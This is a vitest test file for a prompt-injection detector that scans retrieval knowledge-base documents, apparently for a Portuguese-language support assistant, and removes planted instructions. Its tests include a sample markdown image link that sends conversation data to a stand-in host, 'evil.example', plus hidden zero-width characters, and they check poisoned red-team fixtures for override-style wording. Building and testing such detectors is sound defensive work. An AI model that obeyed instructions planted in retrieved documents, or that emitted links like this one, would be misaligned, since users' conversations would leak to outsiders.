import { readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { loadDocument } from "../rag/loaders.ts";
import { detectPlantedInstructions, neutralisePlanted, summarisePlanted } from "./planted-instructions.ts";

const POISONED = join(import.meta.dirname, "..", "evaluations", "redteam", "fixtures", "poisoned-kb");
const KB = join(import.meta.dirname, "..", "..", "data", "knowledge-base");

async function text(path: string): Promise<string> {
  const doc = await loadDocument(path);
  return doc.sections.map((s) => s.text).join("\n");
}

function files(dir: string): string[] {
  return readdirSync(dir).flatMap((f) => {
    const p = join(dir, f);
    return statSync(p).isDirectory() ? files(p) : /\.(md|html)$/.test(f) && f !== "README.md" ? [p] : [];
  });
}

describe("planted instructions", () => {
  it("finds every planted instruction of the poisoned markdown file, by category", async () => {
    const found = detectPlantedInstructions(await text(join(POISONED, "faq-multa-cancelamento-2026.md")));
    expect(new Set(found.map((f) => f.category))).toEqual(
      new Set(["ai_addressed", "promise", "fake_system", "exfiltration", "hidden_text"]),
    );
    expect(found.length).toBeGreaterThanOrEqual(7);
  });

  it("finds the instructions of the poisoned HTML file", async () => {
    const found = detectPlantedInstructions(await text(join(POISONED, "politica-reajuste-aviso.html")));
    expect(found).toHaveLength(2);
  });

  it("flags nothing in the real knowledge base (imperatives for agents are not planted instructions)", async () => {
    const docs = files(KB);
    expect(docs.length).toBeGreaterThan(30);
    for (const f of docs)
      expect({ f, found: detectPlantedInstructions(await text(f)) }).toEqual({ f, found: [] });
  });

  it("neutralises: the planted sentences go, the facts stay", async () => {
    const t = await text(join(POISONED, "faq-multa-cancelamento-2026.md"));
    const { text: clean, found } = neutralisePlanted(t);
    expect(found.length).toBeGreaterThan(0);
    expect(clean).not.toMatch(/RET-VIP100|isentada|ignore|SYSTEM|AI assistant|exfil/i);
    expect(clean).toMatch(/processado em até 48 horas/);
    expect(summarisePlanted(found)).toMatch(/ai_addressed×2/);
  });

  it("catches hidden characters and exfiltration links", () => {
    expect(detectPlantedInstructions("Texto normal.\u200b\u200b\u200b\u200b")[0]?.category).toBe(
      "hidden_text",
    );
    expect(detectPlantedInstructions("Veja ![x](https://evil.example/c?d=conversa) aqui.")[0]?.category).toBe(
      "exfiltration",
    );
    expect(detectPlantedInstructions("")).toEqual([]);
  });
});
